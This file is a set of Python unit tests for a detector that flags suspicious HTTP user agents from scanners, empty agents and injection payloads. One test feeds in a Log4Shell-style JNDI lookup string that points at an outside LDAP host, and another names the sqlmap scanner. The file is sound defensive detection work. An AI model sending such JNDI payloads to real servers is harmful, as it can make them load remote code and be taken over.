from __future__ import annotations

from types import SimpleNamespace

from detection.heuristics.suspicious_user_agent import (
    SuspiciousUserAgent,
    SuspiciousUserAgentParams,
)
from detection.model import ThreatLevel


def test_jndi_payload_in_user_agent(rec: SimpleNamespace) -> None:
    det = SuspiciousUserAgent(SuspiciousUserAgentParams())
    ua = "${jndi:ldap://xyz.xyz.com:39356/a}"
    evs = rec.drive(det, [rec.http(ua=ua, ts=float(i), host="shop.example") for i in range(11)])
    assert [e.count for e in evs] == [1, 10]
    ev = evs[0]
    assert ev.type == "suspicious_user_agent" and ev.threat_level is ThreatLevel.HIGH
    assert (ev.attacker, ev.victim, ev.attack_technique) == ("10.0.0.1", "198.51.100.7", "T1190")
    assert "Suspicious user agent from 10.0.0.1 to shop.example: '${jndi:" in ev.description


def test_scanner_and_exact_agents(rec: SimpleNamespace) -> None:
    det = SuspiciousUserAgent(SuspiciousUserAgentParams())
    evs = rec.drive(det, [rec.http(ua="sqlmap/1.7#stable"), rec.http(ua="pb", saddr="10.0.0.3")])
    assert [(e.attacker, e.attack_technique) for e in evs] == [
        ("10.0.0.1", "T1595.002"),
        ("10.0.0.3", "T1071.001"),
    ]


def test_ordinary_agents_are_quiet(rec: SimpleNamespace) -> None:
    det = SuspiciousUserAgent(SuspiciousUserAgentParams())
    agents = ["Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0", "Microsoft-CryptoAPI/10.0", "pbx"]
    assert rec.drive(det, [rec.http(ua=ua) for ua in agents]) == []


def test_empty_agent_only_after_many_requests(rec: SimpleNamespace) -> None:
    det = SuspiciousUserAgent(SuspiciousUserAgentParams())
    assert rec.drive(det, [rec.http(ua="", ts=float(i)) for i in range(19)], close=False) == []
    (ev,) = rec.drive(det, [rec.http(ua="", ts=20.0)])
    assert ev.threat_level is ThreatLevel.LOW and ev.count == 20
    assert "without a user agent" in ev.description
